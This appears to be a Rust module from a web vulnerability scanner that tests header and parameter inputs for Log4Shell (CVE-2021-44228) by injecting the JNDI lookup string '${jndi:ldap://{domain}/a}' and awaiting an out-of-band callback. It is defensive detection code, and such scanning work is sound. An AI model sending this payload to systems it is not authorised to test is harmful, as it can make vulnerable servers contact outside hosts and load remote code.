//! # log4shell
//!
//! Probes header and parameter insertion points with a JNDI lookup
//! string and waits for an out-of-band callback (spec §4.2 Log4Shell /
//! CVE-2021-44228). A hit is never confirmable from the probe response
//! alone — the vulnerable code path logs the string and never returns
//! it — so this audit only registers an `OOBTest`; the issue itself is
//! created later by `OOBCorrelator::correlate`.

use async_trait::async_trait;
use tokio_util::sync::CancellationToken;

use sukyan_types::{History, InsertionPoint, InsertionPointType};

use crate::audits::{Audit, AuditContext, AuditKind};
use crate::error::EngineResult;
use crate::http::execute::{ExecuteOptions, HistoryCreationOptions};
use crate::insertion_points::analyzer::create_request_from_insertion_points;
use crate::oob::new_oob_test;

const JNDI_TEMPLATE: &str = "${jndi:ldap://{domain}/a}";

pub struct Log4ShellAudit;

#[async_trait]
impl Audit for Log4ShellAudit {
    fn kind(&self) -> AuditKind {
        AuditKind::Log4Shell
    }

    fn applies_to(&self, _history: &History, point: &InsertionPoint) -> bool {
        matches!(point.point_type, InsertionPointType::Header | InsertionPointType::Parameter)
    }

    async fn run(
        &self,
        ctx: &AuditContext<'_>,
        history: &History,
        point: &InsertionPoint,
        cancel: &CancellationToken,
    ) -> EngineResult<()> {
        if cancel.is_cancelled() {
            return Err(crate::error::EngineError::Cancelled);
        }
        if !ctx.dedup.mark_if_new(&history.url, "log4shell", Some(&point.summary())) {
            return Ok(());
        }

        let oob = ctx.oob.get_url();
        let payload_value = oob.get_value(JNDI_TEMPLATE);

        let request = create_request_from_insertion_points(history, &[(point.clone(), payload_value.clone())]);
        let options = ExecuteOptions {
            history_options: Some(HistoryCreationOptions::scanner(history.workspace_id)),
            ..ExecuteOptions::default()
        };
        let result = ctx.http.execute(&request, &options).await;

        let originating_history = result.history.map(|h| h.id).unwrap_or(history.id);

        let test = new_oob_test(
            sukyan_types::IssueCode::Log4Shell,
            &oob,
            history.url.clone(),
            Some(point.summary()),
            payload_value,
            originating_history,
            history.workspace_id,
            history.task_id,
            history.scan_id,
        );
        ctx.oob.register(test).await;

        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn applies_only_to_header_and_parameter_points() {
        let audit = Log4ShellAudit;
        let header = InsertionPoint::new("x", InsertionPointType::Header, "v");
        let json_field = InsertionPoint::new("x", InsertionPointType::JsonField, "v");
        let dummy_history = sample_history();
        assert!(audit.applies_to(&dummy_history, &header));
        assert!(!audit.applies_to(&dummy_history, &json_field));
    }

    fn sample_history() -> History {
        use sukyan_types::{HistoryId, HistorySource, ResponseData, WorkspaceId};
        History {
            id: HistoryId(1),
            method: "GET".to_string(),
            url: "https://t.example/".to_string(),
            request_headers: Default::default(),
            request_body: None,
            status: 200,
            response_headers: Default::default(),
            response: ResponseData::default(),
            response_size: 0,
            duration: std::time::Duration::from_millis(1),
            source: HistorySource::Scanner,
            workspace_id: WorkspaceId::new(),
            task_id: None,
            scan_id: None,
            scan_job_id: None,
            notes: vec![],
            ws_messages: vec![],
        }
    }
}
